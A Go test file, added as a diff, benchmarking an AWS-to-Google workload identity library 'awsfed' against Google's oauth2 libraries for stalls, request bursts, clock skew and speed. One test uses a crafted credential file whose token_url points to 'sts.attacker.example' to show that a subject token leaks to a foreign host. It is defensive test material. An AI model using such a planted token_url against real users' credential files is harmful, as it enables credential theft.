@@ -1,0 +1,152 @@
+package examples_test
+
+import (
+	"context"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"testing/synctest"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/oauth2"
+	oldaccount "golang.org/x/oauth2/google/externalaccount"
+
+	"github.com/awsfed/awsfed-go/awsfed"
+	"github.com/awsfed/awsfed-go/awsfed/awsfedtest"
+)
+
+// What the README says of Google's libraries is measured here, next to awsfed, in one run.
+
+func TestStallsOfADaySideBySide(t *testing.T) {
+	const hop = 150 * time.Millisecond
+	stalls := make(map[string]int)
+	for name, contender := range contenders {
+		synctest.Test(t, func(t *testing.T) {
+			cloud := awsfedtest.New(awsfedtest.Options{})
+			cloud.Inject(awsfedtest.Delay(awsfedtest.GoogleSTS, hop))
+			cloud.Inject(awsfedtest.Delay(awsfedtest.IAMCredentials, hop))
+			call := contender(t, cloud)
+			require.NoError(t, call())
+			for range 24 * 60 * 60 {
+				start := time.Now()
+				require.NoError(t, call())
+				if time.Since(start) > time.Millisecond {
+					stalls[name]++
+				}
+				time.Sleep(time.Second)
+			}
+			time.Sleep(time.Minute) // refreshes in the background end
+		})
+		t.Logf("%-25s %d stalls of one caller in a day", name, stalls[name])
+	}
+	assert.Zero(t, stalls["awsfed"])
+	assert.GreaterOrEqual(t, stalls["golang.org/x/oauth2"], 24)
+}
+
+func TestAFleetSideBySide(t *testing.T) {
+	const fleet = 1000
+	worst := make(map[string]int)
+	for name, contender := range contenders {
+		synctest.Test(t, func(t *testing.T) {
+			cloud := awsfedtest.New(awsfedtest.Options{})
+			var callers sync.WaitGroup
+			for range fleet {
+				call := contender(t, cloud)
+				callers.Go(func() {
+					for range 2 * 60 * 60 / 10 {
+						assert.NoError(t, call())
+						time.Sleep(10 * time.Second)
+					}
+				})
+			}
+			start := time.Now()
+			callers.Wait()
+			perSecond := make(map[int64]int)
+			for _, request := range cloud.Requests() {
+				google := request.Endpoint == awsfedtest.GoogleSTS || request.Endpoint == awsfedtest.IAMCredentials
+				if second := int64(request.Time.Sub(start) / time.Second); google && second > 0 {
+					perSecond[second]++
+					worst[name] = max(worst[name], perSecond[second])
+				}
+			}
+			time.Sleep(time.Minute)
+		})
+		t.Logf("%-25s at most %d requests in any second after the first", name, worst[name])
+	}
+	assert.LessOrEqual(t, worst["awsfed"], 20)
+	assert.GreaterOrEqual(t, worst["golang.org/x/oauth2"], fleet)
+	assert.GreaterOrEqual(t, worst["cloud.google.com/go/auth"], fleet)
+}
+
+func TestAWrongClockSideBySide(t *testing.T) {
+	for name, contender := range contenders {
+		synctest.Test(t, func(t *testing.T) {
+			cloud := awsfedtest.New(awsfedtest.Options{})
+			cloud.SetClock(20 * time.Minute)
+			err := contender(t, cloud)()
+			if name == "awsfed" {
+				assert.NoError(t, err, name)
+			} else {
+				assert.ErrorContains(t, err, "Signature expired", name)
+			}
+		})
+	}
+}
+
+// A file's token_url of any host gets the subject token from Google's library; awsfed refuses the file.
+func TestAFileOfAForeignHostSideBySide(t *testing.T) {
+	const file = `{
+		"type": "external_account",
+		"audience": "//iam.googleapis.com/projects/912480652101/locations/global/workloadIdentityPools/my-aws-pool/providers/my-aws-provider",
+		"subject_token_type": "urn:ietf:params:aws:token-type:aws4_request",
+		"token_url": "http://sts.attacker.example/v1/token",
+		"credential_source": {"environment_id": "aws1"}
+	}`
+	_, err := awsfed.ConfigFromJSON([]byte(file))
+	require.ErrorContains(t, err, "token_url")
+
+	var sentTo atomic.Value
+	ctx := context.WithValue(t.Context(), oauth2.HTTPClient, &http.Client{Transport: seer(func(req *http.Request) { sentTo.Store(req.URL.Host) })})
+	cfg := awsfedtest.New(awsfedtest.Options{}).Config()
+	ts, err := oldaccount.NewTokenSource(ctx, oldaccount.Config{
+		Audience: cfg.Audience, SubjectTokenType: awsfed.AWSSubjectTokenType, TokenURL: "http://sts.attacker.example/v1/token",
+		AwsSecurityCredentialsSupplier: oldSupplier{cfg},
+	})
+	require.NoError(t, err)
+	_, err = ts.Token()
+	assert.Error(t, err)
+	assert.Equal(t, "sts.attacker.example", sentTo.Load())
+}
+
+// seer sees a request and lets nothing out.
+type seer func(*http.Request)
+
+func (s seer) RoundTrip(req *http.Request) (*http.Response, error) {
+	s(req)
+	return &http.Response{StatusCode: http.StatusTeapot, Body: http.NoBody, Request: req, Header: http.Header{}}, nil
+}
+
+func BenchmarkTokenAtHand(b *testing.B) {
+	for name, contender := range contenders {
+		b.Run(strings.ReplaceAll(name, "/", "_"), func(b *testing.B) {
+			cloud := awsfedtest.New(awsfedtest.Options{})
+			call := contender(b, cloud)
+			if err := call(); err != nil {
+				b.Fatal(err)
+			}
+			b.ReportAllocs()
+			b.RunParallel(func(pb *testing.PB) {
+				for pb.Next() {
+					if err := call(); err != nil {
+						b.Error(err)
+						return
+					}
+				}
+			})
+		})
+	}
+}
